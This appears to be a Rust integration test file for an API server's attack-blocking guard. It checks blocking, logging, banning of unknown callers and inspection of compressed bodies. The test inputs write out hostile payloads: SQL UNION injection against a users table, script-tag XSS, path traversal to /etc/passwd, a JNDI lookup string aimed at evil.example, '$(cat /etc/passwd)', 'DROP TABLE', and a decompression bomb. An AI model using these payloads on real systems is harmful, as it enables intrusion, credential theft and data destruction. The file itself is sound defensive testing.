//! What looks like an attack is refused before anything else is said of it, told without being
//! repeated, and counted against strangers alone.

use std::{fs, io::Write};

use ems_core::role::Role;
use ems_testkit::{ADMIN, Answer, Builder, TestServer};
use flate2::{Compression, write::GzEncoder};
use reqwest::header::CONTENT_TYPE;
use serde_json::{Value, json};

const ME: &str = "/api/v1/auth/me";
const DATA: &str = "/api/v1/data";
const BATCH: &str = "/api/v1/data/batch";
const TOKEN: &str = "/api/v1/auth/token";
const ATTACK: &str = "x' UNION ALL SELECT secretword, password FROM users--";

fn server() -> Builder {
    TestServer::builder()
}

fn is_blocked(answer: &Answer) -> bool {
    answer.verdict() == (403, "request_blocked".into())
}

fn reading(location: &str) -> Value {
    json!({ "meter_id": "m1", "timestamp": "2024-01-01T00:00:00Z", "energy_consumption": 1.5,
            "location": location })
}

/// The events of `security.log` that tell of an attack, and the log as it is.
async fn told(server: TestServer) -> (Vec<Value>, String) {
    let place = server.stop().await.unwrap();
    let log = fs::read_to_string(place.path().join("instance/log/security.log")).unwrap();
    let events = log
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap());
    let attacks = events.filter(|event| event["violation_type"] == "suspicious_pattern");
    (attacks.collect(), log)
}

#[tokio::test]
async fn an_attack_is_refused_on_any_path_before_anything_is_said_of_it() {
    let server = server().start().await;
    let nobody = server.nobody();
    for path in [
        "/api/v1/meters?prefix=x'%20or%20'1'%3D'1",
        "/nowhere?a=%3Cscript%3Ealert(1)%3C/script%3E",
        "/nowhere/..%2f..%2f..%2fetc/passwd",
        "/.git/config",
    ] {
        let answer = nobody.get(path).await;
        assert!(is_blocked(&answer), "{path}: {}", answer.text());
        let problem = answer.json();
        assert_eq!(problem["detail"], "Request blocked");
        assert_eq!(
            problem["request_id"].as_str(),
            Some(answer.header("x-request-id"))
        );
        assert!(!answer.text().contains("script"), "{}", answer.text());
    }
    // A stranger's body, on a route that asks for a credential, on one that does not, and on none.
    for path in [DATA, TOKEN, "/nowhere"] {
        let answer = nobody.post(path, &json!({ "a": ATTACK })).await;
        assert!(is_blocked(&answer), "{path}: {}", answer.text());
        let form = nobody
            .request("POST", path)
            .header(CONTENT_TYPE, "application/x-www-form-urlencoded");
        let answer = Answer::of(form.body("a=%24%7Bjndi:ldap://evil.example/a%7D")).await;
        assert!(is_blocked(&answer), "{path}: {}", answer.text());
    }
    // What is no attack is answered as ever.
    assert_eq!(nobody.get("/nowhere?a=b").await.status, 404);
    assert_eq!(nobody.post(DATA, &reading("cellar")).await.status, 401);
    assert_eq!(
        nobody
            .clone()
            .bearer("a.b.c")
            .post(DATA, &reading("cellar"))
            .await
            .status,
        401
    );
}

#[tokio::test]
async fn a_known_caller_is_refused_the_attack_and_not_shut_out() {
    let server = server().set("guard.ban_score", "20").start().await;
    let token = server.log_in(ADMIN.0, ADMIN.1).await;
    let admin = server.nobody().bearer(&token);
    for _ in 0..6 {
        assert!(is_blocked(&admin.post(DATA, &reading(ATTACK)).await));
    }
    let rows = json!([reading("cellar"), reading("<script>alert(1)</script>")]);
    assert!(is_blocked(&admin.post(BATCH, &rows).await));
    let unknown = json!([{ "meter_id": "m1", "x": "$(cat /etc/passwd)" }]);
    assert!(is_blocked(&admin.post(BATCH, &unknown).await));
    let meter = json!({ "location": "'; DROP TABLE meters; --" });
    assert!(is_blocked(&admin.put("/api/v1/meters/m1", &meter).await));
    let user = json!({ "username": ATTACK, "password": "correct horse battery", "role": "viewer" });
    assert!(is_blocked(&admin.post("/api/v1/users", &user).await));

    let place = "O'Brien & Sons; Unit 5 -- \"rear\" <left>, 1 or 2";
    let stored = admin.post(DATA, &reading(place)).await;
    assert_eq!(stored.status, 201, "{}", stored.text());
    assert_eq!(admin.get(ME).await.status, 200);
    let found =
        admin.get("/api/v1/data/m1?start=2024-01-01T00:00:00%2B01:00&end=2025-01-01T00:00:00Z");
    assert_eq!(found.await.json()["readings"][0]["location"], place);
}

#[tokio::test]
async fn a_bad_row_has_no_location_of_a_good_one_pass_unjudged() {
    let server = server().start().await;
    let device = server
        .nobody()
        .api_key(&server.key_for(Role::MeterReader, &["*"]).await);
    let row = |second: usize, location: &str| {
        let mut row = reading(location);
        let (minute, second) = (second / 60, second % 60);
        row["timestamp"] = json!(format!("2024-01-01T00:{minute:02}:{second:02}Z"));
        row
    };
    // Past what is judged of a body as such.
    let mut rows: Vec<Value> = (0..1000).map(|second| row(second, "Hall 2")).collect();
    rows[0]["energy_consumption"] = json!(-1);
    let stored = device.post(BATCH, &json!(rows)).await;
    assert_eq!(stored.status, 200, "{}", stored.text());
    assert_eq!(stored.json()["accepted"], 999);
    rows.push(row(1001, ATTACK));
    assert!(is_blocked(&device.post(BATCH, &json!(rows)).await));
    assert_eq!(
        server.admin().await.get("/api/v1/meters/m1").await.json()["readings"],
        999
    );
}

#[tokio::test]
async fn what_a_stranger_sends_packed_is_judged_unpacked() {
    let server = server().start().await;
    let body = reading(ATTACK).to_string().into_bytes();
    let mut gzip = GzEncoder::new(Vec::new(), Compression::fast());
    gzip.write_all(&body).unwrap();
    let gzip = gzip.finish().unwrap();
    let torn = gzip[..gzip.len() - 4].to_vec();
    let zstd = zstd::encode_all(&*body, 3).unwrap();
    let bomb = zstd::encode_all(&*vec![b' '; 64 << 20], 3).unwrap();
    for (coding, body, blocked) in [
        ("gzip", gzip, true),
        ("gzip", torn, true),
        ("zstd", zstd, true),
        ("zstd", bomb, false),
        ("gzip", b"no gzip".to_vec(), false),
    ] {
        let request = server.nobody().request("POST", BATCH);
        let request = request
            .header(CONTENT_TYPE, "application/json")
            .header("content-encoding", coding);
        let answer = Answer::of(request.body(body)).await;
        assert_eq!(is_blocked(&answer), blocked, "{coding}: {}", answer.text());
    }
}

#[tokio::test]
async fn any_text_may_be_a_password() {
    let server = server().start().await;
    let token = server.log_in(ADMIN.0, ADMIN.1).await;
    let admin = server.nobody().bearer(&token);
    let user =
        json!({ "username": "carla", "role": "viewer", "meters": ["*"], "password": ATTACK });
    let made = admin.post("/api/v1/users", &user).await;
    assert_eq!(made.status, 201, "{}", made.text());
    let login = json!({ "username": "carla", "password": ATTACK });
    assert_eq!(server.nobody().post(TOKEN, &login).await.status, 200);
    let attack = json!({ "username": ATTACK, "password": "x" });
    assert!(is_blocked(&server.nobody().post(TOKEN, &attack).await));
}

#[tokio::test]
async fn strangers_who_attack_are_shut_out() {
    let server = server()
        .set("guard.ban_score", "20")
        .set("server.trusted_proxies", "[\"127.0.0.1/32\"]")
        .start()
        .await;
    let attacker = server.nobody().forwarded_for("203.0.113.9");
    for _ in 0..4 {
        assert!(is_blocked(
            &attacker.get("/a?b=%3Cscript%3Ealert(1)%3C/script%3E").await
        ));
    }
    // Behind the proxy the address is refused, not its connections.
    assert!(is_blocked(&attacker.get(ME).await));
    assert_eq!(
        server
            .nobody()
            .forwarded_for("203.0.113.10")
            .get(ME)
            .await
            .status,
        401
    );
}

#[tokio::test]
async fn an_attack_is_told_by_its_rules_and_never_repeated() {
    let server = server().start().await;
    let key = server.key_for(Role::MeterReader, &["*"]).await;
    let reader = server.nobody().api_key(&key);
    let known = reader.post(DATA, &reading(ATTACK)).await;
    let stranger = server
        .nobody()
        .post("/nowhere", &json!({ "note": ATTACK }))
        .await;
    assert!(is_blocked(&known) && is_blocked(&stranger));
    let (events, log) = told(server).await;
    assert_eq!(events.len(), 2, "{events:?}");
    for (event, answer) in events.iter().zip([&known, &stranger]) {
        assert_eq!(event["request_id"], answer.header("x-request-id"));
        assert_eq!(event["level"], "ERROR");
        let rules = event["details"]["rules"].as_str().unwrap();
        assert!(rules.split(' ').any(|rule| rule == "sql-union"), "{rules}");
        assert!(event["details"]["score"].as_u64().unwrap() >= 5);
        assert_eq!(event["details"]["blocked"], true);
    }
    assert_eq!(events[0]["details"]["place"], "text location");
    assert_ne!(events[0]["user"], "anonymous");
    assert_eq!(events[1]["user"], "anonymous");
    assert!(!log.contains("secretword"), "{log}");
    assert!(!log.contains(&key));
}

#[tokio::test]
async fn detecting_tells_and_refuses_nothing_and_off_looks_at_nothing() {
    let server = server().set("guard.inspection", "detect").start().await;
    let key = server.key_for(Role::MeterReader, &["*"]).await;
    let reader = server.nobody().api_key(&key);
    assert_eq!(reader.post(DATA, &reading(ATTACK)).await.status, 201);
    let (events, _) = told(server).await;
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(events[0]["details"]["blocked"], false);

    let server = TestServer::builder()
        .set("guard.inspection", "off")
        .start()
        .await;
    let key = server.key_for(Role::MeterReader, &["*"]).await;
    let reader = server.nobody().api_key(&key);
    assert_eq!(reader.post(DATA, &reading(ATTACK)).await.status, 201);
    assert!(told(server).await.0.is_empty());
}

#[tokio::test]
async fn a_rule_is_allowed_where_the_settings_say_so_and_the_threshold_is_theirs() {
    let allowed = r#"[{ rule = "script-tag", route = "/api/v1/data", field = "location" },
                      { rule = "script-tokens", field = "location" }]"#;
    let server = server().set("guard.allow_rules", allowed).start().await;
    let token = server.log_in(ADMIN.0, ADMIN.1).await;
    let admin = server.nobody().bearer(&token);
    let stored = admin.post(DATA, &reading("<script>")).await;
    assert_eq!(stored.status, 201, "{}", stored.text());
    let elsewhere = json!({ "location": "<script>" });
    assert!(is_blocked(
        &admin.put("/api/v1/meters/m1", &elsewhere).await
    ));

    let server = TestServer::builder()
        .set("guard.threshold", "100")
        .start()
        .await;
    assert_eq!(
        server.nobody().get("/nowhere?a=%3Cscript%3E").await.status,
        404
    );
}
